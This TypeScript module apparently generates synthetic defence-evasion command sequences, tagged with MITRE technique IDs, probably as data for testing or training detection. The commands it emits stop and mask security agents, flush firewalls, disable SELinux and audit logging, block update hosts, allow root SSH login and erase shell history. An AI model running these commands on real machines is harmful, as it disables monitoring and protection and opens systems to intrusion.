import type { Attack } from '../scenario.ts';
import { behind, look, maybe, root, workFolder, write } from '../ways.ts';

/** Watching programs are stopped; one that was started before stands for them. */
const watchers: Attack = {
  name: 'watchers-stopped',
  family: 'watchers-stopped',
  techniques: ['T1562.001', 'T1489', 'T1057'],
  as: 'either',
  needs: ['sudo'],
  lines: (draw, place) => {
    const name = `${draw.word()}${draw.pick(['-agent', 'd', '-monitor', '-sensor', 'wd'])}`;
    const folder = workFolder(draw, place);
    const daemon = `${folder}/${name}`;
    const services = draw.some(
      [
        'auditd',
        'rsyslog',
        'fail2ban',
        'clamav-daemon',
        'apparmor',
        'osqueryd',
        'falcon-sensor',
        'wazuh-agent',
        'ufw',
      ],
      draw.int(1, 4),
    );
    return [
      `mkdir -p ${folder}`,
      write(
        draw,
        daemon,
        `#!/bin/bash\nwhile sleep ${draw.int(2, 6)}; do date >> ${folder}/${draw.word()}.log; done`,
      ),
      `chmod +x ${daemon}`,
      behind(draw, daemon),
      draw.pick([
        `ps aux | grep -iE '${name}|agent|audit|syslog'`,
        `pgrep -fl ${name}`,
        'ps -ef --forest | tail -20',
      ]),
      ...services.map((service) =>
        root(
          place,
          draw.pick([
            `systemctl stop ${service}`,
            `service ${service} stop`,
            `systemctl disable --now ${service}`,
            `systemctl mask ${service}`,
          ]),
        ),
      ),
      draw.pick([
        `pkill -9 -f ${name}`,
        `kill -9 $(pgrep -f ${name})`,
        `pkill -STOP -f ${name}`,
        `killall -9 ${name} || pkill -f ${name}`,
        `for p in $(pgrep -f ${name}); do kill -TERM $p; done`,
      ]),
      ...maybe(
        draw,
        0.6,
        draw.pick([`rm -f ${daemon}`, `chmod 000 ${daemon}`, `mv ${daemon} ${daemon}.old`, `: > ${daemon}`]),
      ),
      ...maybe(draw, 0.4, `pgrep -fl ${name}`),
    ];
  },
};

/** Settings that protect the machine are weakened. */
const settings: Attack = {
  name: 'protection-weakened',
  family: 'protection-weakened',
  techniques: ['T1562.001', 'T1562.004', 'T1562.006', 'T1562.012'],
  as: 'either',
  needs: ['sudo'],
  lines: (draw, place) => {
    const update = draw.pick([
      'deb.debian.org',
      'security.debian.org',
      `update.${draw.word()}.com`,
      `telemetry.${draw.word()}.io`,
    ]);
    const ways = [
      root(place, 'iptables -F'),
      root(place, 'iptables -P INPUT ACCEPT'),
      root(place, 'nft flush ruleset'),
      root(place, 'ufw disable'),
      root(place, 'setenforce 0'),
      root(place, `bash -c "mkdir -p /etc/selinux; echo SELINUX=disabled > /etc/selinux/config"`),
      root(place, 'auditctl -s'),
      root(place, 'auditctl -l'),
      root(place, `bash -c "rm -f /etc/audit/rules.d/*.rules"`),
      root(place, `bash -c "echo '-e 0' > /etc/audit/rules.d/${draw.word()}.rules"`),
      `echo "0.0.0.0 ${update}" | ${root(place, 'tee -a /etc/hosts')} > /dev/null`,
      `printf '127.0.0.1 %s\\n' ${update} | ${root(place, 'tee -a /etc/hosts')}`,
      root(place, `bash -c "echo '*.* ~' > /etc/rsyslog.d/00-${draw.word()}.conf"`),
      root(place, `sed -i 's/^auth,authpriv/#&/' /etc/rsyslog.conf /etc/rsyslog.d/50-default.conf`),
      root(
        place,
        `sed -i 's/^#*LogLevel.*/LogLevel QUIET/; s/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config`,
      ),
      root(place, `bash -c "ulimit -c 0; rm -f /etc/security/limits.d/*"`),
      root(place, `bash -c "echo > /etc/ld.so.nohwcap; rm -rf /etc/apparmor.d/usr.*"`),
      root(
        place,
        `bash -c "echo 'APT::Periodic::Unattended-Upgrade 0;' > /etc/apt/apt.conf.d/99${draw.word()}"`,
      ),
      root(place, `bash -c "echo 'Defaults !syslog' > /etc/sudoers.d/${draw.word()}"`),
      root(place, `mv /usr/sbin/auditctl /usr/sbin/.${draw.word()}`),
      root(place, `chmod -x /usr/bin/${draw.pick(['lsof', 'strace', 'tcpdump', 'last'])}`),
      'export HISTFILE=/dev/null; ulimit -c 0',
    ];
    return [
      ...look(draw, draw.int(1, 2)),
      ...maybe(draw, 0.5, draw.pick(['id', 'cat /etc/hosts', 'ls /etc/audit /etc/rsyslog.d'])),
      ...draw.some(ways, draw.int(2, 8)),
      ...maybe(draw, 0.3, 'tail -3 /etc/hosts'),
    ];
  },
};

export const DEFENCES: readonly Attack[] = [watchers, settings];
